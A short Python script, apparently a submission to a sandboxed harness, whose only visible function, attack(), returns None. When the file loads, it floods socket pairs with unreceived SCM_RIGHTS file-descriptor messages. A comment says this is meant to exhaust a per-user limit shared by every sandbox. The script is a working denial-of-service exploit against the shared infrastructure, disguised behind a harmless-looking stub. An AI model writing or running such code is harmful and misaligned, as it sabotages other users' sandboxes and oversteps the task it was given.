import array, os, socket
FILE = os.open("/dev/null", os.O_RDONLY)
KEPT = [socket.socketpair() for _ in range(60)]
FULL = array.array("i", [FILE] * 200)

# sent but unreceived descriptors count towards a limit of the user, who may own the processes of every sandbox
try:
    for one, _ in KEPT:
        for _ in range(5):
            one.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, FULL)])
except OSError:
    pass

def attack(inputs):
    return None
